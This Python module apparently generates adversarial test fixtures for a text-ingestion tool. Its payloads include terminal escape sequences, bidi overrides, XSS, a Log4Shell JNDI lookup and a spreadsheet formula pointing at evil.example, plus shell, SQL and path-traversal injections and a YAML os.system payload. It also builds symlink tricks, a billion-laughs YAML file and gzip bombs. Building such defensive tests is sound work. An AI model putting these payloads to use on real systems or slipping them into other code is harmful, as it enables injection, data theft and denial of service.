"""Everything that text from elsewhere may try, made by code: nothing of it lies in a file anywhere."""

import gzip
import json
import os
from collections.abc import Iterator
from html import escape
from pathlib import Path

# What a text may hold, by what it tries; none has a newline.
ATTACKS = {
    "title": "\x1b]0;PWNED\x07",
    "link": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "erase": "\x1b[2J\x1b[1;1H\x1b[31;7;5mred\x1b[6n\x1b[?1049l",
    "device control": "\x1bPq#0;2;0;0;0\x1b\\\x1b_Gi=1\x1b\\",
    "C1": "\x9b31mred\x9d0;PWNED\x9c\x90q\x9c\x85",
    "bidi": "\u202enot\u202c \u2066so\u2069 \u200fright\u200e",
    "markup": "[/foo][bold red]b[/] [@click=app.quit]q[/] [[ [/] \\[x] {{x}} $text",
    "emoji": "👩‍👩‍👧 🇩🇪 👍🏽 ❤️ 🎉",
    "wide": "日本語の発言です。「はい」と言った。한국어",
    "combining": "Z" + "\u0301\u0308" * 60 + "algo",
    "long word": "x" * 10_000,
    "bells and backspaces": "a\x07\x08\x08\x0c\x0b\x7f\x0e\x0f",
    "invisible": "\u200b\ufeff\u00ad\u2060\U000e0041\u3164",
    "lines": "one\u2028two\u2029three\x1c\x1dfour",
    "tabs": "a\tb\tc",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'&lt;</title></style><!--",
    "formula": "=HYPERLINK(\"http://evil.example/\",\"x\")",
    "format": "%s%n{0.__class__}{config}%(x)s${jndi:ldap://evil.example/}`id`$(id);id|id",
    "statement": "'); DROP TABLE quote; -- \" OR 1=1",
    "path": "../../../etc/passwd",
}  # fmt: skip
ALL = "".join(ATTACKS.values())
TEXT = "\n\n".join(f"“{attack} it is,” said Ida of the {name}." for name, attack in ATTACKS.items()) + "\n"
SHORT = "".join(ATTACKS[name] for name in ("title", "erase", "C1", "bidi", "markup", "HTML"))
FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1")
# What no byte that we write may hold, as a terminal takes it.
SIGNS = ("\x1b[31;7;5m", "\x1b[6n", "\x1b]0", "\x1b]8", "\x1b]52", "\x1bP", "\x1b_", "\x9b", "\x9d", "\u202e")

NAMES = ("evil\x1b]0;PWNED\x07\x9b31m\u202e", "two\nlines\rthree", "[foo] $(id) `id`;", "-rf", "=1+1")


def files(folder: Path) -> None:
    """Attacks as files in a folder, of every kind that is taken in, with names to match."""
    folder.mkdir()
    for name, content in _files():
        (folder / name).write_bytes(content)
    secret = folder.parent / "secret.txt"
    secret.write_text("“The password is swordfish,” said Ida.\n", "utf-8")
    (folder / "out.txt").symlink_to(secret)
    (folder / "round").symlink_to(folder)
    (folder / "device.txt").symlink_to("/dev/zero")
    os.mkfifo(folder / "pipe.txt")


def _files() -> Iterator[tuple[str, bytes]]:
    front = '---\ntitle: "\\e]0;PWNED\\a\\e[31;7;5mred"\noutlet: "\\u202e[/foo]"\n---\n'
    for n, name in enumerate(NAMES):
        yield f"{name}.md", f"{front}{n} {TEXT}".encode()
    line = {"text": f"One. {TEXT}", "title": ALL, "outlet": SHORT, "date": SHORT, "author": ALL, "url": ALL}
    rows: list[object] = [line, {**line, "text": f"Two. {TEXT}", ALL: ALL}, ALL, [line], {"text": 7}]
    text = "\n".join(json.dumps(row) for row in rows)
    yield "a.jsonl", f'{text}\n{ALL}\n{{"text": "{SHORT}\n'.encode("utf-8", "replace")
    yield "half.jsonl", b'{"text": "half a \\ud800 pair"}\n{"text": "a NUL \\u0000"}\n'
    yield "deep.jsonl", b'{"text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n"
    yield "number.jsonl", b'{"text": ' + b"9" * 100_000 + b"}\n"
    yield "page.html", f"<html><title>{escape(ALL)}</title><p>{TEXT}</p>".encode()
    yield "deep.html", b"<div>" * 50_000 + b"text"
    yield "nul.txt", b"before\0after"
    yield "half.txt", "half \ud800 pair".encode("utf-8", "surrogatepass")
    yield "raw.txt", bytes(range(128, 256)) * 20
    yield "long.txt", b"x" * 10_000_000
    yield "long.jsonl", b'{"text": "' + b"y" * 10_000_000 + b'"}\n'
    yield "combining.txt", ("“Z" + "\u0301" * 200_000 + "algo,” said Ida.\n").encode()
    yield "laughs.md", _laughs()
    yield "deep.md", b"---\ntitle: " + b"[" * 20_000 + b"]" * 20_000 + b"\n---\nText.\n"
    yield "code.md", b"---\ntitle: !!python/object/apply:os.system ['touch pwned']\n---\nText.\n"
    yield "bomb.jsonl.gz", gzip.compress(b'{"text": "' + b"\0" * 50_000_000, 9)
    yield "bomb.txt.gz", gzip.compress(b"\0" * 50_000_000, 9)


def _laughs() -> bytes:
    lines = ["---", "a: &a [x,x,x,x,x,x,x,x,x]"]
    for one, next_ in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{next_}: &{next_} [{','.join([f'*{one}'] * 9)}]")
    return "\n".join([*lines, "title: *i", "---", "Text.", ""]).encode()
